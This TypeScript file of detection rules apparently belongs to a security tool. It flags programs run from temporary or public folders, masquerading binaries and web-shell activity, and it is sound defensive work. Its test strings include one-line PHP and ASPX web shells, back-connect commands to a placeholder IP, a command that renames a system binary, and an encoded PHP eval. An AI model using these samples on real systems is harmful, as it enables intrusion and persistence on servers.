/** Programs that run from folders which everybody can write to, and what web servers start: the other alerts that a playbook ends on. */
import { behaviour, counter } from './behaviour.ts';
import { isWritablePlace, pathClasses } from './places.ts';
import { onProcess, onScene, onText, type Row, type Scene } from './row.ts';
import type { Process } from '../types.ts';

export const BUILD =
  /go-build|selfgz|\/tmp\/tmp[a-z0-9_]{6,}\/|temporary asp\.net|\\is-[a-z0-9]{5,}\.tmp|\.cr\.|pkinstallsandbox|terraform_|ansible|_mei\w+|pip-|npm-|yarn-|cargo|rustup|chocolatey|\\winget|\\ns[a-z][a-z0-9]{3,5}\.tmp|\/\.mount_|appimage|hsperfdata|gradle|bazel|cmake|configure|conftest|makeself|dpkg|apt\.|rpm-tmp|\/tmp\/\w*venv|pytest|xctest|swift-build|cortex-|aws\/install|get-docker|amazon-ssm|installer|vmware|epel-release|rust|node_modules|\/tmp\/build|setup-|\\setup|package cache|google\\update|microsoft\\(?:teams|onedrive|edgeupdate)|programs\\|\/brew|homebrew|jamf|munki|intune|\\arduino|cctest|postgres|mysql/;

/** Folders of POSIX systems that everybody can write to. */
const TEMPORARY = /^(?:\/private)?\/(?:tmp|var\/tmp|dev\/shm)\//;

function isProgramInTemp({ program, parent }: Process): boolean {
  return (
    (parent === undefined || parent >= 0) &&
    /[\\/]/.test(program) &&
    isWritablePlace(program) &&
    !BUILD.test(program.toLowerCase())
  );
}

export const TEMP: readonly Row[] = [
  behaviour('program-in-public-folder', ['user-folder-run', 'T1036.005', 'execution', 'high', 'medium'], {
    reason: 'A program is started from a public folder, where any user can put one and no software is installed.',
    benign: ['hand-made deployment'],
    hits: ['C:\\Users\\Public\\svchost.exe -k', 'C:\\PerfLogs\\a.exe', '%public%\\x.exe'],
    misses: ['"C:\\Program Files\\App\\app.exe"', 'notepad C:\\Users\\Public\\a.txt'],
    look: onProcess(['*'], (process) =>
      isProgramInTemp(process) && pathClasses(process.program).some((one) => one === 'public' || one === 'recycle-bin')
        ? process
        : undefined,
    ),
  }),
  behaviour('program-in-windows-temp', ['user-folder-run', 'T1036.005', 'execution', 'medium', 'medium'], {
    reason: 'A program is started from a temporary folder.',
    benign: ['installers and updates unpack themselves there'],
    hits: [
      'C:\\Windows\\Temp\\kz.exe',
      'C:\\Users\\jd\\AppData\\Local\\Temp\\x64\\a.exe -debug',
      'powershell "C:\\Temp\\tool.exe -x"',
    ],
    misses: ['C:\\Users\\jd\\AppData\\Local\\Temp\\is-4F5GH.tmp\\setup.tmp /SL5', 'C:\\Windows\\System32\\notepad.exe'],
    look: onProcess(['*'], (process, { os }) =>
      os === 'windows' &&
      isProgramInTemp(process) &&
      pathClasses(process.program).includes('temp') &&
      /\.(?:exe|com|scr|bat|cmd|pif|tmp|dat|dll)$/i.test(process.program)
        ? process
        : undefined,
    ),
  }),
  behaviour('program-in-archive', ['user-folder-run', 'T1204.002', 'execution', 'high', 'medium'], {
    reason: 'A program is started from inside an archive that somebody opened.',
    benign: ['portable tools run without unpacking'],
    hits: [
      '"C:\\Users\\jd\\AppData\\Local\\Temp\\Temp1_scan.zip\\scan.exe"',
      'C:\\Users\\jd\\AppData\\Local\\Temp\\Rar$EXa0.123\\a.exe',
      'C:\\Users\\jd\\AppData\\Local\\Temp\\7zO4F\\a.scr',
    ],
    misses: ['7z x a.zip'],
    look: onProcess(['*'], (process) =>
      /(?:\\temp\d?_[^\\]{1,80}\.zip\\|\\rar\$|\\7z[os][0-9a-z]{2,}|\.zip\\|\.rar\\|\.iso\\|\\7zipsfx)/i.test(
        process.program,
      )
        ? process
        : undefined,
    ),
  }),
  behaviour('program-in-profile', ['user-folder-run', 'T1204.002', 'execution', 'low', 'medium'], {
    reason: 'A program is started from the profile or the downloads of a user.',
    benign: ['software that installs itself for one user'],
    hits: [
      '"C:\\Users\\jd\\AppData\\Roaming\\agent.exe"',
      'C:\\Users\\jd\\Downloads\\a.exe /S',
      'C:\\ProgramData\\x.exe',
    ],
    misses: ['"C:\\Users\\jd\\AppData\\Local\\Programs\\Code\\code.exe"', '"C:\\Program Files\\App\\app.exe"'],
    look: onProcess(['*'], (process, { os }) =>
      os === 'windows' &&
      isProgramInTemp(process) &&
      pathClasses(process.program).some((one) => one === 'user-writable' || one === 'downloads') &&
      !pathClasses(process.program).includes('temp')
        ? process
        : undefined,
    ),
  }),
  behaviour('program-in-profile-root', ['user-folder-run', 'T1204.002', 'execution', 'high', 'low'], {
    reason: 'A program lies right in the root of a profile folder, where no software installs itself.',
    benign: ['portable tools'],
    hits: ['"C:\\Users\\jd\\AppData\\Roaming\\agent.exe"', 'C:\\ProgramData\\x.exe -a', '%APPDATA%\\a.exe'],
    misses: ['C:\\Users\\jd\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', 'C:\\ProgramData\\chocolatey\\choco.exe'],
    look: onProcess(['*'], (process) =>
      /(?:\\appdata\\(?:roaming|local|locallow)|%(?:local)?appdata%|\$env:(?:local)?appdata|\\programdata|%programdata%|\$env:programdata)\\[^\\]{1,60}\.(?:exe|com|scr|bat|cmd|pif)$/i.test(
        process.program,
      )
        ? process
        : undefined,
    ),
  }),
  behaviour('system-name-outside', ['masquerade', 'T1036.005', 'defense-evasion', 'critical', 'high'], {
    reason: 'A program bears the name of a part of Windows but lies outside the folders of Windows.',
    benign: [],
    hits: ['C:\\Users\\Public\\svchost.exe', 'C:\\ProgramData\\lsass.exe -a', '"C:\\Windows\\Temp\\explorer.exe"'],
    misses: ['C:\\Windows\\System32\\svchost.exe -k netsvcs', 'svchost.exe -k x'],
    look: onProcess(
      [
        'svchost',
        'lsass',
        'csrss',
        'smss',
        'services',
        'winlogon',
        'wininit',
        'explorer',
        'taskhostw',
        'taskhost',
        'spoolsv',
        'dllhost',
        'conhost',
        'rundll32',
        'regsvr32',
        'lsm',
        'sihost',
        'ctfmon',
        'dwm',
        'runtimebroker',
        'searchindexer',
        'wuauclt',
        'msiexec',
        'mshta',
        'wscript',
        'cscript',
        'certutil',
        'schtasks',
        'userinit',
        'logonui',
        'fontdrvhost',
        'wmiprvse',
        'cmd',
        'notepad',
      ],
      (process) => {
        const path = process.program.toLowerCase();
        if (
          !/^(?:[a-z]:\\|%|\\\\|\$env:)/.test(path) ||
          /^(?:[a-z]:\\windows\\(?:system32|syswow64|sysnative|winsxs|explorer\.exe|servicing|[^\\]+\.exe$)|%(?:systemroot|windir|comspec)|\$env:(?:systemroot|windir|comspec)|\$pshome)/.test(
            path,
          )
        )
          return undefined;
        return process;
      },
    ),
  }),
  behaviour('double-extension', ['masquerade', 'T1036.007', 'defense-evasion', 'high', 'high'], {
    reason: 'The name of a program ends like a document and then like a program.',
    benign: [],
    hits: ['C:\\Users\\jd\\Downloads\\invoice.pdf.exe', 'report.docx.scr'],
    misses: ['setup.v2.exe', 'copy a.pdf b.pdf'],
    look: onProcess(['*'], (process) =>
      /\.(?:pdf|docx?|xlsx?|pptx?|jpe?g|png|txt|rtf|csv|zip|mp[34]|html?)\s{0,80}\.(?:exe|scr|com|pif|js|vbs|bat|cmd|lnk|hta)$/i.test(
        process.program,
      )
        ? process
        : undefined,
    ),
  }),
  behaviour('right-to-left', ['masquerade', 'T1036.002', 'defense-evasion', 'high', 'high'], {
    reason: 'A sign turns the direction of writing round, so that a name shows another ending than it has.',
    benign: [],
    hits: ["powershell \"$r=[char]0x202E; ren a.exe ('x'+$r+'fdp.exe')\"", 'C:\\x\\a\u202Efdp.exe'],
    misses: ['notepad a.txt'],
    look: onText(['0x202e', '\u202e', 'u202e', '8238']),
  }),
  behaviour('program-renamed', ['masquerade', 'T1036.003', 'defense-evasion', 'high', 'high'], {
    reason: 'A program of Windows is copied under another name: rules that know its name no longer see it.',
    benign: [],
    hits: [
      'copy C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\adobe.exe',
      'cmd /c copy %windir%\\System32\\cscript.exe %APPDATA%\\notepad.exe /Y',
    ],
    misses: ['copy C:\\Windows\\System32\\drivers\\etc\\hosts C:\\backup\\hosts', 'copy a.exe b.exe'],
    look: onProcess(
      ['copy', 'xcopy', 'robocopy', 'copy-item', 'move', 'cp', 'mklink', 'move-item', 'ren', 'esentutl'],
      ({ args }) => {
        const files = args.filter(({ role, lower }) => role !== 'flag' && /\.(?:exe|dll)["']?$/.test(lower));
        const [from, to] = files;
        const base = (text: string): string => text.replace(/^.*[\\/]|["']/g, '');
        return from !== undefined &&
          to !== undefined &&
          /system32|syswow64|\\windows\\/.test(from.lower) &&
          base(from.lower) !== base(to.lower)
          ? to
          : undefined;
      },
    ),
  }),
  behaviour('interpreter-in-temp-args', ['user-folder-run', 'T1059', 'execution', 'medium', 'low'], {
    reason: 'An interpreter is given a script or library in a temporary or public folder.',
    benign: ['installers and remote management'],
    hits: ['rundll32 C:\\Windows\\Temp\\a.tmp,Start', 'python C:\\Users\\Public\\a.py'],
    misses: ['python C:\\app\\main.py', 'rundll32 shell32.dll,Control_RunDLL'],
    look: onProcess(
      [
        'python',
        'perl',
        'node',
        'java',
        'autoit3',
        'autohotkey',
        'cscript',
        'wscript',
        'rundll32',
        'regsvr32',
        'installutil',
        'msbuild',
        'control',
      ],
      ({ args }, { os }) =>
        os === 'windows'
          ? args.find(
              ({ role, lower }) => role !== 'flag' && isWritablePlace(lower.replace(/^["']/, '')) && !BUILD.test(lower),
            )
          : undefined,
    ),
  }),
  behaviour('temp-script-with-address', ['user-folder-run', 'T1059', 'command-and-control', 'high', 'high'], {
    reason: 'A script or program in a temporary folder is given an address and a port: it connects there.',
    benign: ['tests of a connection'],
    hits: ['python3 /tmp/.b.py 203.0.113.9 443', 'perl /tmp/bc.pl 203.0.113.9 31337', '/tmp/pty 203.0.113.9 9999'],
    misses: ['python3 /srv/app.py 203.0.113.9 443', 'python3 /tmp/build.py --jobs 4'],
    look: onProcess(['*'], ({ program, args }) => {
      const isThere = TEMPORARY.test(program) || args.some(({ lower }) => TEMPORARY.test(lower));
      return isThere
        ? args.find(
            ({ lower }, at) => /^\d{1,3}(?:\.\d{1,3}){3}$/.test(lower) && /^\d{1,5}$/.test(args[at + 1]?.lower ?? ''),
          )
        : undefined;
    }),
  }),
  behaviour('run-after-cd-temp', ['user-folder-run', 'T1204.002', 'execution', 'high', 'medium'], {
    reason: 'The line goes to a temporary folder and starts a program that lies there.',
    benign: ['builds in a temporary folder'],
    hits: ['sh -c "cd /dev/shm && ./.rcd"', 'cd /tmp; ./x', 'cmd /c cd C:\\Users\\Public & .\\a.exe'],
    misses: ['cd /tmp && ls', 'cd /srv/app && ./run', 'cd /tmp/src && ./configure'],
    look: onScene(({ processes }) => {
      const cd = processes.find(
        ({ name, args }) =>
          /^(?:cd|pushd|chdir|set-location)$/.test(name) &&
          args.some(({ lower }) => TEMPORARY.test(`${lower}/`) || isWritablePlace(`${lower}\\`)),
      );
      const run =
        cd === undefined
          ? undefined
          : processes.find(
              ({ index, program }) =>
                index > cd.index &&
                /^\.[\\/][\w.-]+$/.test(program) &&
                !BUILD.test(program.toLowerCase()) &&
                !/^\.\/(?:configure|install|setup|make|gradlew|mvnw|bootstrap|autogen)/.test(program),
            );
      return run === undefined ? undefined : { layer: run.layer, start: run.span.start, end: run.span.end };
    }),
  }),
  behaviour('web-folder-write', ['web-shell', 'T1505.003', 'persistence', 'high', 'medium'], {
    reason: 'A file that a web server would run is written into its folder.',
    benign: ['deployment of a web site'],
    hits: [
      'cmd /c echo x > C:\\inetpub\\wwwroot\\x.aspx',
      'copy a.jsp C:\\tomcat\\webapps\\ROOT\\a.jsp',
      'sh -c "echo x > /var/www/html/a.php"',
    ],
    misses: ['copy C:\\inetpub\\wwwroot\\x.aspx D:\\backup', 'type C:\\inetpub\\wwwroot\\web.config'],
    look: onProcess(['*'], ({ name, args }) => {
      const target = args.find(({ role, lower }) => role === 'target' && isWebFile(lower));
      if (target !== undefined) return target;
      if (
        !/^(?:copy|xcopy|move|copy-item|move-item|cp|mv|robocopy|certutil|curl|wget|invoke-webrequest|set-content|add-content|out-file|new-item|tee)$/.test(
          name,
        )
      )
        return undefined;
      const last = args.findLast(({ role }) => role !== 'flag' && role !== 'source');
      return last !== undefined && isWebFile(last.lower) ? last : undefined;
    }),
  }),
  behaviour('web-output-in-folder', ['web-shell', 'T1505.003', 'collection', 'high', 'medium'], {
    reason: 'The output of a command is written where the web server shows it to whoever asks.',
    benign: ['status pages made by a script'],
    hits: ['cmd.exe /c "powershell -f t.ps1 > C:\\inetpub\\wwwroot\\o.txt 2>&1"'],
    misses: ['cmd /c dir > C:\\temp\\o.txt'],
    look: onProcess(['*'], ({ args }) =>
      args.find(
        ({ role, lower }) => role === 'target' && pathClasses(lower).includes('web-root') && !lower.endsWith('.log'),
      ),
    ),
  }),
  behaviour('web-shell-frame', ['web-shell', 'T1505.003', 'execution', 'critical', 'high'], {
    reason:
      'The line has the frame that web shells put round a command: a change to the web folder, the command, markers for the output.',
    benign: [],
    hits: [
      'cmd.exe /c cd /d "C:\\inetpub\\wwwroot\\"&whoami&echo [S]&cd&echo [E]',
      'sh -c "cd \\"/var/www/html\\";id;echo [S];pwd;echo [E]"',
    ],
    misses: ['cmd /c cd /d C:\\inetpub\\wwwroot && dir'],
    look: onText(['echo [s]', 'echo [e]', 'echo ->|', 'echo |<-', 'echo x@y', "echo '->|'"]),
  }),
  behaviour('web-shell-text', ['web-shell', 'T1505.003', 'persistence', 'critical', 'high'], {
    reason: 'Code that runs whatever a web request brings is in the line.',
    benign: [],
    hits: [
      'cmd /c echo ^<%eval(Request.Item["pwd"],"unsafe");%^> > C:\\x.aspx',
      "echo '<?php system($_GET[0]);?>' > a.php",
    ],
    misses: ["php -r 'echo 1;'"],
    look: onText([
      'eval(request',
      'execute(request',
      '$_get[',
      '$_post[',
      '$_request[',
      'request.getparameter(',
      'request.item[',
      'processstartinfo("cmd',
      'eval($_',
      'system($_',
      'passthru($_',
      'assert($_',
      'jscript" %>',
      "jscript'%>",
      'jscript"%>',
    ]),
  }),
  behaviour('php-decoded', ['web-shell', 'T1505.003', 'execution', 'critical', 'high'], {
    reason: 'PHP runs text that it decodes from the line.',
    benign: [],
    hits: ['php -r eval(gzinflate(base64_decode("S0ktSQQA")));'],
    misses: ['php -r \'echo base64_decode("eA==");\''],
    look: onText([
      'eval(gz',
      'eval(base64_decode',
      'eval(str_rot13',
      'eval(hex2bin',
      'assert(base64_decode',
      'eval(rawurldecode',
    ]),
  }),
  counter('ordinary-build-folder', 'medium', {
    reason: 'What runs in the temporary folder has the shape that build tools and installers make.',
    hits: [
      '/tmp/go-build123/b001/exe/main',
      'C:\\Users\\jd\\AppData\\Local\\Temp\\is-4F5GH.tmp\\setup.tmp /SL5',
      '/tmp/.mount_nvim.aB3dEf/usr/bin/nvim',
    ],
    misses: ['/tmp/.x/a', 'C:\\Windows\\Temp\\kz.exe'],
    look: onProcess(['*'], (process) =>
      /[\\/](?:te?mp|t)[\\/]/i.test(process.program) && BUILD.test(process.program.toLowerCase()) ? process : undefined,
    ),
  }),
  counter('ordinary-installed-program', 'medium', {
    reason: 'The program lies in a folder where only administrators can write.',
    hits: ['"C:\\Program Files\\App\\app.exe" --update', '/Applications/App.app/Contents/MacOS/App'],
    misses: ['C:\\Users\\Public\\app.exe'],
    look: onScene((scene) => installed(scene)),
  }),
];

function isWebFile(path: string): boolean {
  return (
    /\.(?:aspx?|ashx|asmx|jspx?|jsp|php\d?|phtml|cfm|cgi|war|cshtml)["']?$/.test(path) &&
    (pathClasses(path).includes('web-root') || /^[a-z]:\\[^\\]*\\?[^\\]*\.(?:aspx?|jsp|php)$/.test(path))
  );
}

function installed({ processes }: Scene) {
  const [first] = processes;
  if (first === undefined || first.shell === 'powershell') return undefined;
  return /^(?:[a-z]:\\program files(?: \(x86\))?\\|\/applications\/|\/opt\/|\/library\/application support\/)/i.test(
    first.program,
  ) && !/\.(?:ps1|vbs|js)$/i.test(first.program)
    ? { layer: 0, start: first.span.start, end: first.span.end }
    : undefined;
}
